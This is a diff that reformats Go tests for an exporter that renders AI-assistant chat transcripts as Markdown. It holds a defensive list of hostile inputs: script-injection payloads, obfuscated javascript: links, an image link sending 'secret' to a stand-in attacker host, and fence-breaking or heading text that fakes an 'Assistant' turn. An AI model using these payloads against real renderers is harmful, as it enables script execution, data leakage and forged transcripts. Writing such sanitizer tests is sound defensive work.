@@ -44,18 +44,46 @@ func export(t testing.TB, cards map[uuid.UUID]proposal.Card, messages ...transcr
 func TestAChatIsWrittenForPeople(t *testing.T) {
 	t.Parallel()
 	id := uuid.New()
-	answer := said("assistant",
+	answer := said(
+		"assistant",
 		stream.Part{Type: "step-start"},
-		stream.Part{Type: "dynamic-tool", ToolName: "catalog.listSystems", ToolCallID: "1", State: stream.OutputAvailable, Output: json.RawMessage(`{"systems":[{"name":"Hidden"}]}`), Timing: &stream.Timing{TookMS: new(int64(420))}},
-		stream.Part{Type: "dynamic-tool", ToolName: "ai.probeUrl", ToolCallID: "2", State: stream.OutputError, ErrorText: "It took too long.", Timing: &stream.Timing{TookMS: new(int64(61_000))}},
-		stream.Part{Type: "dynamic-tool", ToolName: "catalog.createSystem", ToolCallID: "3", State: stream.OutputAvailable, Output: json.RawMessage(`{"proposalId":"` + id.String() + `"}`)},
+		stream.Part{
+			Type:       "dynamic-tool",
+			ToolName:   "catalog.listSystems",
+			ToolCallID: "1",
+			State:      stream.OutputAvailable,
+			Output:     json.RawMessage(`{"systems":[{"name":"Hidden"}]}`),
+			Timing:     &stream.Timing{TookMS: new(int64(420))},
+		},
+		stream.Part{
+			Type:       "dynamic-tool",
+			ToolName:   "ai.probeUrl",
+			ToolCallID: "2",
+			State:      stream.OutputError,
+			ErrorText:  "It took too long.",
+			Timing:     &stream.Timing{TookMS: new(int64(61_000))},
+		},
+		stream.Part{
+			Type:       "dynamic-tool",
+			ToolName:   "catalog.createSystem",
+			ToolCallID: "3",
+			State:      stream.OutputAvailable,
+			Output:     json.RawMessage(`{"proposalId":"` + id.String() + `"}`),
+		},
 		words("# Result\n\nRun `a<b>`:\n\n```html\n<script>\n# not a heading\n```"),
 		data(t, "proposal", proposal.Card{ProposalID: id, Summary: "Create the system *Pay*", Status: proposal.Proposed}),
 		data(t, "question", map[string]any{"question": "Which one?", "options": []any{map[string]any{"label": "The first"}}}),
 		data(t, "error", map[string]any{"code": "x", "message": "The provider is away."}),
 	)
 	answer.Model = "gpt"
-	now := proposal.Card{ProposalID: id, Summary: "Create the system *Pay*", Status: proposal.Declined, DecidedBy: &proposal.Who{Name: "Bob"}, DecidedAt: &at, DecisionReason: "Too early"}
+	now := proposal.Card{
+		ProposalID:     id,
+		Summary:        "Create the system *Pay*",
+		Status:         proposal.Declined,
+		DecidedBy:      &proposal.Who{Name: "Bob"},
+		DecidedAt:      &at,
+		DecisionReason: "Too early",
+	}
 	require.Equal(t, `# Payments
 
 - Chat of Ada Lovelace with the assistant
@@ -95,10 +123,27 @@ func TestSourcesLeadIntoTheAppFromAFile(t *testing.T) {
 	read := func(link string) stream.Part {
 		raw, err := json.Marshal(map[string]string{"title": "Plans [1]", "link": link, "content": "Hidden"})
 		require.NoError(t, err)
-		return stream.Part{Type: "dynamic-tool", ToolName: "ai.getDoc", State: stream.OutputAvailable, Output: raw, Timing: &stream.Timing{TookMS: new(int64(3))}}
+		return stream.Part{
+			Type:     "dynamic-tool",
+			ToolName: "ai.getDoc",
+			State:    stream.OutputAvailable,
+			Output:   raw,
+			Timing:   &stream.Timing{TookMS: new(int64(3))},
+		}
 	}
-	out := export(t, nil, said("assistant", read("/docs/concepts/plans#one-decision"), read("/docs/../x)[y](javascript:1"), read("https://evil.example/docs/x"),
-		words("See [plans](/docs/concepts/plans#one-decision \"t\"), [elsewhere](https://example.org/docs/x), [odd](//example.org/x), [here](#x).\n\n```\n[code](/docs/x)\n```")))
+	out := export(
+		t,
+		nil,
+		said(
+			"assistant",
+			read("/docs/concepts/plans#one-decision"),
+			read("/docs/../x)[y](javascript:1"),
+			read("https://evil.example/docs/x"),
+			words(
+				"See [plans](/docs/concepts/plans#one-decision \"t\"), [elsewhere](https://example.org/docs/x), [odd](//example.org/x), [here](#x).\n\n```\n[code](/docs/x)\n```",
+			),
+		),
+	)
 	for _, want := range []string{
 		"- Tool: Get doc, under 0.1 s: [Plans \\[1\\]](https://ops.example.org/docs/concepts/plans#one-decision)\n- Tool: Get doc, under 0.1 s\n- Tool: Get doc, under 0.1 s\n",
 		"See [plans](https://ops.example.org/docs/concepts/plans#one-decision \"t\"), [elsewhere](https://example.org/docs/x), [odd](//example.org/x), [here](#x).",
@@ -140,11 +185,42 @@ func TestFilesHaveNamesThatEverySystemTakes(t *testing.T) {
 
 // harmful are texts that do something in a reader of Markdown which lets everything pass.
 var harmful = []string{
-	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![x](https://evil.example/?q=secret)", "![x][r]\n\n[r]: https://evil.example/",
-	"[x](javascript:alert(1))", "[x](java&#115;cript:alert(1))", "[x]( data:text/html,x)", "[x](<javascript:alert(1)>)", "[x]:\njavascript:alert(1)\n\n[x]",
-	"```\nopen", "~~~~\nopen ```", "- ```\n  open", "   ```\nopen", "> ```\n> open", "# Ada Lovelace\n\n## Assistant", "Assistant\n---", "Assistant\n===", "> Assistant\n> ===", "a ` b\n` <b> `",
-	"[a](`) <b>`", "| a `b | <i>` |\n|---|---|\n| `x | <b>` |", "- ```\n  ```\n```\n<b>\n```\n<i>", "  ```\n      ```\n```\n<b>", "<div>\n```\n<b>\n```", "<!--\n## x", "<a\nhref='javascript:1'>",
-	"\\<b>", "\\![x](https://evil.example)", "!\\[x](y)", "[![x](y)](z)", "<https://evil.example>", "&lt;script&gt;", "`<b>", "``<b>`", "\tx\n# y", "1. a\n   ```sh\n   # c\n   <b>\n   ```\n2. b",
+	"<script>alert(1)</script>",
+	"<img src=x onerror=alert(1)>",
+	"![x](https://evil.example/?q=secret)",
+	"![x][r]\n\n[r]: https://evil.example/",
+	"[x](javascript:alert(1))",
+	"[x](java&#115;cript:alert(1))",
+	"[x]( data:text/html,x)",
+	"[x](<javascript:alert(1)>)",
+	"[x]:\njavascript:alert(1)\n\n[x]",
+	"```\nopen",
+	"~~~~\nopen ```",
+	"- ```\n  open",
+	"   ```\nopen",
+	"> ```\n> open",
+	"# Ada Lovelace\n\n## Assistant",
+	"Assistant\n---",
+	"Assistant\n===",
+	"> Assistant\n> ===",
+	"a ` b\n` <b> `",
+	"[a](`) <b>`",
+	"| a `b | <i>` |\n|---|---|\n| `x | <b>` |",
+	"- ```\n  ```\n```\n<b>\n```\n<i>",
+	"  ```\n      ```\n```\n<b>",
+	"<div>\n```\n<b>\n```",
+	"<!--\n## x",
+	"<a\nhref='javascript:1'>",
+	"\\<b>",
+	"\\![x](https://evil.example)",
+	"!\\[x](y)",
+	"[![x](y)](z)",
+	"<https://evil.example>",
+	"&lt;script&gt;",
+	"`<b>",
+	"``<b>`",
+	"\tx\n# y",
+	"1. a\n   ```sh\n   # c\n   <b>\n   ```\n2. b",
 }
 
 func FuzzNoTextDoesMoreThanSaySomething(f *testing.F) {
